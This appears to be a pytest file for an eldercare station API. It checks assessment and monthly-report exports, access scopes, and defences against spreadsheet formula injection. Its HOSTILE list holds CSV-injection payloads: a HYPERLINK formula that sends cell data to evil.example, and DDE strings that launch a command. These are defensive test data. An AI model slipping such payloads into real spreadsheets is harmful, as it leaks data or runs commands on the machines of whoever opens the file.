import csv
import io
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine

from cloud.api.app import create_app
from cloud.api.assessment import Sheet
from cloud.api.config import ApiConfig
from cloud.api.sheets import FORMULA_STARTS, to_csv, to_xlsx
from cloud.registry.csv_rows import parse_station_csv
from cloud.registry.store import upsert_stations
from tests.api import fleet
from tests.api.conftest import settings_for, token_for

V1 = "/api/v1"


def sheet_rows(content: bytes) -> list[list[object]]:
    workbook = load_workbook(io.BytesIO(content))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def test_assessment_excel_has_rubric_rows_spot_checks_veto_and_subsidy(fleet_as: Callable[[str], TestClient]) -> None:
    response = fleet_as("town-hl").get(f"{V1}/exports/stations/hl-02/assessment/2026?format=xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "assessment-hl-02-2026.xlsx" in response.headers["content-disposition"]
    rows = sheet_rows(response.content)
    facts = {r[0]: r[1] for r in rows if r[0] and r[1] is not None}
    assert facts["等级"] == "2A" and facts["补贴标准（元）"] == "5000"
    assert str(facts["应拨补贴（元）"]).startswith("待评分")
    by_item = {r[0]: r for r in rows}
    assert by_item["抽查：未开放次数"][1] == "1"
    assert by_item["一票否决"][1] == "否"
    assert by_item["运营管理：工作时间内正常开放（开放合规率）"][1] == "0.0%"
    assert by_item["服务成效：月均服务老人数（经常服务人数月均达等级标准）"][2] == "≥ 50"
    details = [r for r in rows if r[0] == "抽查明细"]
    assert [(r[1], r[3]) for r in details] == [("2026-10-09 09:00-10:00", "未开放")]
    # With the assessors' score the subsidy is decided: 80 or more earns the grade's amount.
    scored = fleet_as("admin").get(f"{V1}/exports/stations/hl-02/assessment/2026?format=xlsx&score=85")
    assert {r[0]: r[1] for r in sheet_rows(scored.content)}["应拨补贴（元）"] == "5000"
    low = fleet_as("admin").get(f"{V1}/exports/stations/hl-02/assessment/2026?format=xlsx&score=79.5")
    assert {r[0]: r[1] for r in sheet_rows(low.content)}["应拨补贴（元）"] == "0"


def test_assessment_csv_opens_in_excel_with_chinese(fleet_as: Callable[[str], TestClient]) -> None:
    response = fleet_as("admin").get(f"{V1}/exports/stations/hl-01/assessment/2026?format=csv")
    assert response.status_code == 200 and response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["2026年度 汇龙一站 考核表"]
    assert ["等级", "3A"] in rows and any(r and r[0] == "一票否决" for r in rows)


def test_assessment_list(fleet_as: Callable[[str], TestClient]) -> None:
    rows = {r["station"]: r for r in fleet_as("admin").get(f"{V1}/assessments/2026").json()}
    assert set(rows) == {"hl-01", "hl-02", "nh-01", "nh-02"}
    assert (rows["nh-02"]["subsidy_cny"], rows["nh-02"]["subsidy_if_eligible"], rows["nh-02"]["eligible"]) == (
        32000, 32000, None)
    # October so far: the 8th and 9th open, the make-up Saturday the 10th silent (unknown, so not open), today (the
    # 12th) still running and not counted yet: 2 of 3 days' scheduled minutes served.
    assert rows["hl-02"]["failed_spot_checks"] == 1 and rows["hl-01"]["compliance"] == 0.6667
    assert {r["station"] for r in fleet_as("town-hl").get(f"{V1}/assessments/2026").json()} == {"hl-01", "hl-02"}
    assert fleet_as("staff-hl1").get(f"{V1}/assessments/2026").status_code == 403


def test_monthly_report(fleet_as: Callable[[str], TestClient]) -> None:
    staff = fleet_as("staff-hl1")
    response = staff.get(f"{V1}/exports/stations/hl-01/monthly/2026-10?format=xlsx")
    assert response.status_code == 200
    rows = sheet_rows(response.content)
    facts = {r[0]: r[1] for r in rows}
    assert facts["月份"] == "2026-10" and facts["月度标准"] == "100" and facts["服务老人（去重）"] == "4"
    day_rows = {r[0]: r for r in rows if isinstance(r[0], str) and r[0].startswith("2026-10-")}
    assert day_rows["2026-10-09"][1] == "开放" and day_rows["2026-10-01"][1] == "非工作日"  # the verdict, in Chinese
    assert day_rows["2026-10-09"][5] == 4  # its camera saw four elders
    as_csv = staff.get(f"{V1}/exports/stations/hl-01/monthly/2026-10?format=csv")
    assert as_csv.status_code == 200 and "2026-10-09,开放" in as_csv.content.decode("utf-8-sig")
    assert staff.get(f"{V1}/exports/stations/hl-01/monthly/2025-01").status_code == 404
    # hl-02 saw no face all month: its elders are unknown, on the month and on each day, not 0.
    town = fleet_as("town-hl")
    shut = sheet_rows(town.get(f"{V1}/exports/stations/hl-02/monthly/2026-10?format=xlsx").content)
    assert {r[0]: r[1] for r in shut}["服务老人（去重）"] == "无法确认（无人脸数据）"
    assert {r[5] for r in shut if isinstance(r[0], str) and r[0].startswith("2026-10-")} == {"无法确认"}


def test_exports_respect_scope(fleet_as: Callable[[str], TestClient]) -> None:
    cases = [
        ("town-hl", "/exports/stations/nh-01/assessment/2026", 404),
        ("town-hl", "/exports/stations/nh-01/monthly/2026-10", 404),
        ("staff-hl1", "/exports/stations/hl-02/monthly/2026-10", 404),
        ("staff-hl1", "/exports/stations/hl-01/assessment/2026", 403),
        ("dispatch", "/exports/stations/hl-01/monthly/2026-10", 403),
        ("admin", "/exports/stations/hl-01/assessment/2026?format=pdf", 422),
        ("admin", "/exports/stations/hl-01/assessment/1999", 422),
    ]
    for user, path, code in cases:
        assert fleet_as(user).get(V1 + path).status_code == code, (user, path)


HOSTILE = ['=HYPERLINK("http://evil.example/x?"&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _import_hostile_station(engine: Engine) -> None:
    """hl-01 renamed by the bureau's CSV, as `eldercare cloud stations import` reads it."""
    text = ("station_id,name,town,grade,weekdays,hours\n"
            f'hl-01,"{HOSTILE[0].replace(chr(34), chr(34) * 2)}",{HOSTILE[3]},3A,1-5,08:30-11:30 13:30-17:00\n')
    records, problems = parse_station_csv(text)
    assert problems == [] and records[0].name == HOSTILE[0] and records[0].town == HOSTILE[3]
    upsert_stations(engine, records)


def _cells(content: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula(cells: list[Any]) -> None:
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)


def test_names_towns_and_themes_never_become_formulas(fleet_engine: Engine,
                                                      fleet_as: Callable[[str], TestClient]) -> None:
    _import_hostile_station(fleet_engine)
    staff = fleet_as("staff-hl1")
    for i, theme in enumerate(HOSTILE):
        body = {"station": "hl-01", "day": f"2026-10-{i + 1:02d}", "theme": theme, "participants": 10 + i}
        assert staff.post(f"{V1}/activities", json=body).status_code == 201
    monthly = staff.get(f"{V1}/exports/stations/hl-01/monthly/2026-10?format=xlsx")
    assessment = fleet_as("admin").get(f"{V1}/exports/stations/hl-01/assessment/2026?format=xlsx")
    for response in (monthly, assessment):
        assert response.status_code == 200
        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
        _assert_no_formula(_cells(response.content))
    texts = {c.value for c in _cells(monthly.content) if isinstance(c.value, str)}
    # Still readable: each hostile text is there, as text, behind the apostrophe that marks it as text (XML reads a
    # carriage return back as a line feed).
    assert {"'" + theme.replace("\r", "\n") for theme in HOSTILE} <= texts
    assert "'" + HOSTILE[0] + " 2026-10 月度运营报告" in texts and "'" + HOSTILE[3] in texts
    monthly_rows = sheet_rows(monthly.content)
    participants = [next(v for v in r[3:] if v is not None) for r in monthly_rows if r[1] == "主题活动"]
    assert participants == [10, 11, 12, 13, 14, 15]  # numbers stay numbers
    assert f"'{HOSTILE[0]}（hl-01）" in {c.value for c in _cells(assessment.content)}

    for path in ("/exports/stations/hl-01/monthly/2026-10?format=csv",
                 "/exports/stations/hl-01/assessment/2026?format=csv"):
        response = fleet_as("admin").get(V1 + path)
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        fields = [field for row in rows for field in row]
        assert not [f for f in fields if f.startswith(FORMULA_STARTS)], path
        assert any(f.startswith("'=HYPERLINK(") for f in fields)


def test_negative_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    facts: list[Any] = [("-key", -3)]  # a number where facts usually hold text
    sheet = Sheet(title="=title", facts=facts, header=("@h", "ok"),
                  rows=[(-5, -0.25, "-5", "\t=1", "合规 -1", None, 0)])
    cells = {c.coordinate: c for c in _cells(to_xlsx(sheet))}
    assert cells["A1"].value == "'=title" and cells["A2"].value == "'-key"
    assert (cells["B2"].value, cells["B2"].data_type) == (-3, "n")
    assert [cells[k].value for k in ("A5", "B5", "C5", "D5", "E5", "G5")] == [-5, -0.25, "'-5", "'\t=1", "合规 -1", 0]
    assert cells["A5"].data_type == cells["B5"].data_type == "n"
    rows = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8-sig"), newline="")))
    assert rows[-1] == ["-5", "-0.25", "'-5", "'\t=1", "合规 -1", "", "0"]
    assert rows[1] == ["'-key", "-3"]


def test_a_month_over_without_face_data_is_unconfirmed_not_missed(fleet_engine: Engine, tmp_path: Path) -> None:
    # The fleet's October judged once it is over: the API's clock on 3 November.
    november = datetime(2026, 11, 3, 10, 0, tzinfo=fleet.ZONE)
    app = create_app(settings_for(tmp_path), config=ApiConfig(clock=lambda: november), engine=fleet_engine)
    with TestClient(app) as client:
        client.headers["Authorization"] = f"Bearer {token_for(client, 'admin')}"
        rows = {r["station"]: r for r in client.get(f"{V1}/assessments/2026").json()}
        sheet = {row[0]: row[1] for row in sheet_rows(
            client.get(f"{V1}/exports/stations/hl-02/assessment/2026?format=xlsx").content)}
    # hl-01 (3A) saw 4 elders against 100: missed. hl-02 (2A, shut, no face data) and nh-01 (4A, silent): unconfirmed,
    # as the station's sheet says.
    figures = {s: (r["months"], r["months_met"], r["months_unconfirmed"]) for s, r in rows.items()}
    assert figures == {"hl-01": (1, 0, 0), "hl-02": (1, 0, 1), "nh-01": (1, 0, 1), "nh-02": (1, 0, 0)}
    assert sheet["服务成效：月度达标月数"] == "0/1（1 个月无法确认）"
